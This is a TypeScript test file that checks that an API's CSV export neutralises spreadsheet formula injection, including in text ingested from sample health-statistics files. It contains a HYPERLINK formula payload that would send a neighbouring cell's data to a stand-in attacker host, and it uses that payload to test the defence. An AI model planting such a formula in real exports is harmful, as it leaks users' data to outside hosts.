import { copyFileSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startApi, type ApiServer } from '../../../src/app.js';
import { loadConfig } from '../../../src/config.js';
import { CSV_FORMATS, parseCsv, writeCsv, type CsvFormat } from '../../../src/export/csv.js';
import { SAMPLES_DIR } from '../../../src/paths.js';
import { ingestAll } from '../../helpers/api.js';
import { createTestDatabase, type TestDatabase } from '../../helpers/database.js';

// The audit's payload: Excel would fetch the URL with the neighbouring cell in it.
const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A2,"Klicka")';

describe('CSV writer: formula injection (OWASP)', () => {
  const starts = ['=1+1', '+1+1', '-1+1', '@SUM(A1)', '\t=1', '\r=1'];

  it.each(CSV_FORMATS)('makes every text cell that starts with = + - @ tab or CR inert in %s', (format) => {
    const rows = starts.map((text) => ({ text }));
    const parsed = parseCsv(
      writeCsv([{ header: 'text', value: (r: { text: string }) => r.text }], rows, format),
      format,
    );
    expect(parsed.slice(1).map((r) => r[0])).toEqual(starts.map((s) => `'${s}`));
  });

  it.each(CSV_FORMATS)('quotes a neutralised cell and leaves numbers (negative too) as numbers in %s', (format) => {
    const text = writeCsv(
      [
        { header: 'n', value: (r: { n: number; s: string }) => r.n },
        { header: 's', value: (r: { n: number; s: string }) => r.s },
      ],
      [{ n: -0.5, s: '-0.5' }],
      format,
    );
    const sep = format === 'excel-sv' ? ';' : ',';
    const number = format === 'excel-sv' ? '-0,5' : '-0.5';
    expect(text.replace('\uFEFF', '').split('\r\n')[1]).toBe(`${number}${sep}"'-0.5"`);
  });

  it('leaves ordinary text alone', () => {
    expect(writeCsv([{ header: 'x', value: (r: string) => r }], ['Vårdanalys rapport 2017:1', 'a=b'], 'rfc4180')).toBe(
      'x\r\nVårdanalys rapport 2017:1\r\na=b\r\n',
    );
  });
});

/**
 * Every free-text field of the bundled plan-count and agreement files replaced by a formula,
 * loaded through the real adapters, exported through /export in both formats: each exported
 * text column that carries ingested text must come back with the formula made inert.
 */
describe('CSV export of hostile ingested text', () => {
  let db: TestDatabase;
  let api: ApiServer;

  beforeAll(async () => {
    const dir = mkdtempSync(path.join(os.tmpdir(), 'jamfor-formula-'));
    const planCounts = path.join(dir, 'stockholm-2011-individual-plan-followup.csv');
    copyFileSync(path.join(SAMPLES_DIR, 'stockholm-2011-individual-plan-followup.csv'), planCounts);
    writeFileSync(
      planCounts,
      readFileSync(planCounts, 'utf8')
        .replace(/10 beroendemottagningar in Stockholms län/g, '@10 beroendemottagningar')
        .replace('"min 30, max 320 per mottagning; published mean 112"', csvQuote(HYPERLINK)),
    );
    const content = path.join(dir, 'vardanalys-2016-agreement-content.csv');
    writeFileSync(
      content,
      readFileSync(path.join(SAMPLES_DIR, 'vardanalys-2016-agreement-content.csv'), 'utf8')
        .replace(/,"?ungefär hälften"?,/, `,${csvQuote('+ungefär hälften')},`)
        .replace(/Vårdanalys rapport 2017:1/g, '-Vårdanalys rapport 2017:1'),
    );
    const coverage = path.join(dir, 'vardanalys-2016-agreement-coverage.csv');
    writeFileSync(
      coverage,
      readFileSync(path.join(SAMPLES_DIR, 'vardanalys-2016-agreement-coverage.csv'), 'utf8').replace(
        /Vårdanalys rapport 2017:1/g,
        '-Vårdanalys rapport 2017:1',
      ),
    );
    db = await createTestDatabase();
    await ingestAll(db, [planCounts, content, coverage]);
    api = await startApi(loadConfig({ PORT: '0' }), db.api, () => {});
  }, 60_000);

  afterAll(async () => {
    await api?.stop(2000);
    await db?.close();
  });

  async function records(pathAndQuery: string, format: CsvFormat): Promise<Record<string, string>[]> {
    const res = await fetch(`${api.url}${pathAndQuery}&format=${format}`);
    expect(res.status).toBe(200);
    const [header, ...rows] = parseCsv(await res.text(), format);
    return rows.map((r) => Object.fromEntries(header!.map((h, i) => [h, r[i]!])));
  }

  function expectNoLiveFormula(rows: Record<string, string>[]): void {
    for (const row of rows) for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+@\t\r]|^-[^0-9]/);
  }

  describe.each(CSV_FORMATS)('%s', (format) => {
    it('plan-counts: counting_note and the named scope', async () => {
      const rows = await records(
        `/export/plan-counts.csv?scope=${encodeURIComponent('@10 beroendemottagningar')}`,
        format,
      );
      expect(rows.map((r) => r['scope'])).toContain("'@10 beroendemottagningar");
      expect(rows.map((r) => r['counting_note'])).toContain(`'${HYPERLINK}`);
      expectNoLiveFormula(rows);
    });

    it('agreement-coverage: qualifier and publication', async () => {
      const rows = await records('/export/agreement-coverage.csv?level=COUNTY&topic=MISSBRUK&year=2016', format);
      const published = rows.filter((r) => r['origin'] === 'PUBLISHED');
      expect(published.length).toBeGreaterThan(0);
      expect(new Set(published.map((r) => r['publication']))).toEqual(new Set(["'-Vårdanalys rapport 2017:1"]));
      expect(published.map((r) => r['qualifier'])).toContain("'+ungefär hälften");
      expectNoLiveFormula(rows);
    });
  });
});

function csvQuote(text: string): string {
  return `"${text.replace(/"/g, '""')}"`;
}
